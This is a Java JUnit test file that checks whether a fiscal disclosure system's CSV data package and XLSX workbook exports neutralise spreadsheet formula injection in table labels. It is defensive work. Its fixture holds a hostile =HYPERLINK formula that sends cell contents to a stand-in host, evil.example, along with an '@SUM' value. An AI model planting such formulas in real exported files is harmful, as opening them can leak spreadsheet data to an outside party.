package org.fiscaldisclosure.disclosure;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.fiscaldisclosure.contracts.document.PartDocument;
import org.fiscaldisclosure.contracts.event.PartKind;
import org.fiscaldisclosure.disclosure.rendering.DataPackageRendering;
import org.fiscaldisclosure.disclosure.rendering.RenderInput;
import org.fiscaldisclosure.disclosure.rendering.XlsxRendering;
import org.junit.jupiter.api.Test;

/**
 * A published version whose table text starts like a spreadsheet formula (a 科目名称 of {@code =HYPERLINK(…)}): the data
 * package CSVs write it behind a single quote and the workbook marks its cell quote-prefixed; amounts stay numbers.
 */
class FormulaTextExportsTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    static RenderInput hostile() throws Exception {
        String json = DocumentFixture.JSON.writeValueAsString(DocumentFixture.statements())
                .replace("\"行政运行\"", DocumentFixture.JSON.writeValueAsString(HYPERLINK))
                .replace("\"基本工资\"", "\"@SUM(A1:A9)\"");
        PartDocument statements = DocumentFixture.JSON.readValue(json, PartDocument.class);
        Map<PartKind, PartDocument> documents = new java.util.LinkedHashMap<>(DocumentFixture.documents());
        documents.put(PartKind.STATEMENTS, statements);
        return DocumentFixture.input(documents);
    }

    @Test
    void theDataPackageCsvQuotesFormulaLikeLabelsAndKeepsTheAmounts() throws Exception {
        byte[] zip = new DataPackageRendering(new ObjectMapper()).render(hostile());
        String t3 = null;
        String t5 = null;
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                if (e.getName().equals("T3.csv")) {
                    t3 = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                } else if (e.getName().equals("T5.csv")) {
                    t5 = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        List<String> row = List.of(t3.split("\r\n")).stream().filter(l -> l.contains("2010301")).toList();
        assertEquals(1, row.size(), t3);
        assertTrue(row.get(0).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), row.get(0));
        assertTrue(row.get(0).endsWith(",2165432.10,85200.00,2080232.10"), row.get(0));
        assertTrue(t5.contains(",'@SUM(A1:A9),40000.00"), t5);
        assertFalse(t3.contains(",=") || t5.contains(",@"), "no cell starts a formula");
    }

    @Test
    void theWorkbookMarksFormulaLikeTextQuotePrefixedAndNothingElse() throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(new XlsxRendering().render(hostile())))) {
            int quoted = 0;
            for (Sheet sheet : wb) {
                for (Row r : sheet) {
                    for (org.apache.poi.ss.usermodel.Cell c : r) {
                        boolean text = c.getCellType() == CellType.STRING;
                        boolean formulaLike = text && (c.getStringCellValue().startsWith("=") || c.getStringCellValue().startsWith("@"));
                        assertEquals(formulaLike, c.getCellStyle().getQuotePrefixed(), sheet.getSheetName() + "!" + c.getAddress());
                        if (formulaLike) {
                            quoted++;
                            assertTrue(List.of(HYPERLINK, "@SUM(A1:A9)").contains(c.getStringCellValue()), "the text is unchanged");
                        }
                        assertFalse(c.getCellType() == CellType.FORMULA);
                    }
                }
            }
            assertEquals(2, quoted);
        }
    }
}
